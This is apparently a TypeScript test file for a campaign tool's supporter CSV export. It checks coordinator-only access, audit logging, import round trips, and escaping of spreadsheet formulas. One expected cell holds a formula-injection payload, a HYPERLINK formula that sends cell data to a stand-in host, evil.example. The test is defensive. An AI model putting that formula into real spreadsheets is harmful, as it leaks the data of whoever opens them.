import { after, before, beforeEach, describe, test } from 'node:test';
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { ENGINES, createTestDb, type TestDb } from '../../../test/helpers/db.ts';
import { makeOrganization } from '../../../test/helpers/factories.ts';
import { insertCampaign } from '../../../test/helpers/campaigns.ts';
import { createUser, setOrganizationRole, viewerForAccount } from '../accounts/accounts.service.ts';
import { readSafeCsv } from '../../lib/csv-safe.ts';
import { generateDataKeyLine, open, parseDataKeys } from '../../lib/sealed.ts';
import { translator } from '../../i18n/i18n.ts';
import type { Viewer } from '../../http/viewer.ts';
import { Forbidden, NotFound } from '../../http/errors.ts';
import { insertConfirmedSupporters, type NewSupporter } from './supporters.store.ts';
import { exportSupportersText, EXPORT_COLUMNS } from './supporters-export.ts';
import { guessMapping, importSupporterRows, readSupporterCsv } from './supporters-import.ts';
import { supporterAad } from './supporter-keys.ts';

/**
 * The supporter export on both engines: formula-safe cells (case B19: the organization names of
 * B19.json as affiliations get a leading `'`, "Solidaritätskreis" stays as it is), consent
 * versions and times, source and basis, titles in the reader's language; and the round trip —
 * the export (English or German) imported into another campaign gives the same supporters with
 * the same values. Coordinators only; every export in the audit log.
 */

const B19 = JSON.parse(readFileSync(new URL('../../../test/fixtures/cases/B19.json', import.meta.url), 'utf8')) as { supporters_to_export: { org_name: string; phone: string }[] };
const keyring = parseDataKeys(generateDataKeyLine('exp'), 'test');
const en = translator('en');
const de = translator('de');

/** The compared values of a campaign's supporters, by e-mail. */
async function supporterValues(db: TestDb, campaignId: string) {
  const rows = await db.db.selectFrom('supporters').selectAll().where('campaign_id', '=', campaignId).where('status', '=', 'confirmed').execute();
  return rows
    .map((r) => ({
      email: open(keyring, r.email_sealed, supporterAad(r.id)),
      name: r.name,
      country: r.country,
      city: r.city,
      affiliation: r.affiliation,
      lang: r.lang,
      list: [r.list_publicly, r.list_consent_version, r.list_consented_at],
      contact: [r.contact_ok, r.contact_consent_version, r.contact_consented_at],
    }))
    .sort((a, b) => a.email.localeCompare(b.email));
}

for (const engine of ENGINES) {
  describe(`supporter export on ${engine}`, () => {
    let db: TestDb;
    let org: { id: string; slug: string };
    let campaign: { id: string; slug: string };
    let coordinator: Viewer;
    let member: Viewer;
    before(async () => {
      db = await createTestDb(engine);
    });
    after(async () => {
      await db.drop();
    });
    beforeEach(async () => {
      await db.reset();
      org = await makeOrganization(db.db);
      campaign = await insertCampaign(db.db, org.id, { slug: 'dockers' });
      const c = await createUser(db.db, { email: 'coord@example.org', displayName: 'Coordinator', password: 'correct horse battery' });
      await setOrganizationRole(db.db, org.id, c, 'coordinator');
      coordinator = (await viewerForAccount(db.db, c))!;
      const m = await createUser(db.db, { email: 'member@example.org', displayName: 'Member', password: 'correct horse battery' });
      await setOrganizationRole(db.db, org.id, m, 'member');
      member = (await viewerForAccount(db.db, m))!;
      const people: NewSupporter[] = B19.supporters_to_export.map((s, i) => ({
        name: `Person ${i + 1}`,
        email: `person${i + 1}@example.org`,
        country: ['DE', 'GB', 'FR', 'TR', 'BR', 'AT'][i]!,
        city: i === 1 ? '-Nord' : null,
        affiliation: s.org_name,
        lang: i % 2 ? 'de' : 'en',
        listPublicly: i % 2 === 0,
        contactOk: i < 3,
        consentedAt: `2026-05-0${i + 1}T10:00:00.000Z`,
      }));
      people.push({ name: '@Rosa = Luxemburg', email: 'Rosa.L+kampagne@GMAIL.com', country: 'PL', lang: 'pl', listPublicly: false, contactOk: false, consentedAt: '2026-05-09T10:00:00.000Z' });
      await insertConfirmedSupporters(db.db, keyring, campaign.id, people, { source: 'online', consentBasis: null, importId: null, now: '2026-05-10T08:00:00.000Z' });
      // An unconfirmed signature is not exported.
      await db.db
        .insertInto('supporters')
        .values({
          id: '0190a0a0-0000-7000-8000-0000000000ff', campaign_id: campaign.id, email_hash: 'x.pending', email_sealed: 'v1.x', domain_hash: 'x.d', name: 'Pending Person', country: 'DE',
          city: null, affiliation: null, lang: 'en', list_publicly: 0, list_consent_version: null, list_consented_at: null, contact_ok: 0, contact_consent_version: null, contact_consented_at: null,
          status: 'pending', source: 'online', consent_basis: null, import_id: null, created_at: '2026-05-10T09:00:00.000Z', confirmed_at: null, expires_at: '2026-05-17T09:00:00.000Z',
        })
        .execute();
    });

    test('B19: dangerous cells start with an apostrophe, everything else is as stored; consents, source and basis are in it', async () => {
      const e = await exportSupportersText(db.db, keyring, coordinator, campaign.slug, en);
      assert.equal(e.count, 7);
      assert.match(e.filename, /^supporters-dockers-\d{4}-\d{2}-\d{2}\.csv$/);
      assert.ok(e.csv.startsWith('\uFEFF"E-mail","Name","Country","City","Organization","Language","Listed publicly","Contact OK","Consented at",'));
      assert.ok(e.csv.includes('\r\n'));
      assert.ok(!e.csv.includes('Pending Person'));
      // Raw cells: the B19 names neutralized, "Solidaritätskreis" untouched.
      assert.ok(e.csv.includes(`"'=HYPERLINK(""https://evil.example/?d=""&B2,""Details"")"`));
      for (const cell of [`"'+SUM(1,1)"`, `"'-2+3"`, `"'@SUM(1,1)"`, `"'\t=1+1"`, `"Solidaritätskreis"`, `"'-Nord"`, `"'@Rosa = Luxemburg"`]) assert.ok(e.csv.includes(cell), cell);
      const rows = readSafeCsv(e.csv, { columns: true });
      assert.deepEqual(Object.keys(rows[0]!), EXPORT_COLUMNS.map((c) => en.t(`supporters_io.export.columns.${c}`)));
      const first = rows.find((r) => r['E-mail'] === 'person1@example.org')!;
      assert.deepEqual(first, {
        'E-mail': 'person1@example.org',
        Name: 'Person 1',
        Country: 'DE',
        City: '',
        Organization: B19.supporters_to_export[0]!.org_name,
        Language: 'en',
        'Listed publicly': 'yes',
        'Contact OK': 'yes',
        'Consented at': '2026-05-01T10:00:00.000Z',
        'Listing consent version': '2026-11-30',
        'Listing consent at': '2026-05-01T10:00:00.000Z',
        'Contact consent version': '2026-11-30',
        'Contact consent at': '2026-05-01T10:00:00.000Z',
        Source: 'online',
        'Consent basis': '',
        'Signed at': '2026-05-10T08:00:00.000Z',
        'Confirmed at': '2026-05-10T08:00:00.000Z',
      });
      assert.deepEqual(rows.map((r) => r.Organization).slice(0, 6), B19.supporters_to_export.map((s) => s.org_name));
      assert.equal(rows.find((r) => r.Name === '@Rosa = Luxemburg')?.['E-mail'], 'Rosa.L+kampagne@GMAIL.com', 'the address as typed');

      const audit = await db.db.selectFrom('audit_events').selectAll().where('action', '=', 'campaign.supporters_exported').execute();
      assert.equal(audit.length, 1);
      assert.deepEqual([audit[0]!.actor_user_id, audit[0]!.organization_id, audit[0]!.subject_id, JSON.parse(audit[0]!.details)], [coordinator.userId, org.id, campaign.id, { count: 7 }]);
    });

    for (const [label, tr] of [
      ['English', en],
      ['German', de],
    ] as const) {
      test(`round trip: the ${label} export imported into another campaign gives the same supporters with the same values`, async () => {
        const e = await exportSupportersText(db.db, keyring, coordinator, campaign.slug, tr);
        const other = await insertCampaign(db.db, org.id, { slug: `copy-${tr.locale}` });
        const table = readSupporterCsv(Buffer.from(e.csv, 'utf8'));
        const mapping = guessMapping(table.header);
        assert.deepEqual(mapping, { email: 0, name: 1, country: 2, city: 3, affiliation: 4, lang: 5, listPublicly: 6, contactOk: 7, consentedAt: 8 });
        const outcome = await importSupporterRows(db.db, keyring, { campaignId: other.id, table, mapping, consentBasis: 'Copied from the dockers campaign', importId: 'copy', defaultLang: 'en', now: '2026-06-01T00:00:00.000Z' });
        assert.deepEqual({ ...outcome, issues: outcome.issues }, { total: 7, processed: 7, imported: 7, duplicates: 0, rejected: 0, issues: [] });
        assert.deepEqual(await supporterValues(db, other.id), await supporterValues(db, campaign.id));
        const copied = await db.db.selectFrom('supporters').select(['source', 'consent_basis']).where('campaign_id', '=', other.id).execute();
        assert.ok(copied.every((c) => c.source === 'import' && c.consent_basis === 'Copied from the dockers campaign'));
      });
    }

    test('only the campaign’s coordinators export; nothing is recorded for a refusal', async () => {
      await assert.rejects(exportSupportersText(db.db, keyring, member, campaign.slug, en), Forbidden);
      await assert.rejects(exportSupportersText(db.db, keyring, coordinator, 'no-such-campaign', en), NotFound);
      assert.equal((await db.db.selectFrom('audit_events').select('id').where('action', '=', 'campaign.supporters_exported').execute()).length, 0);
    });
  });
}
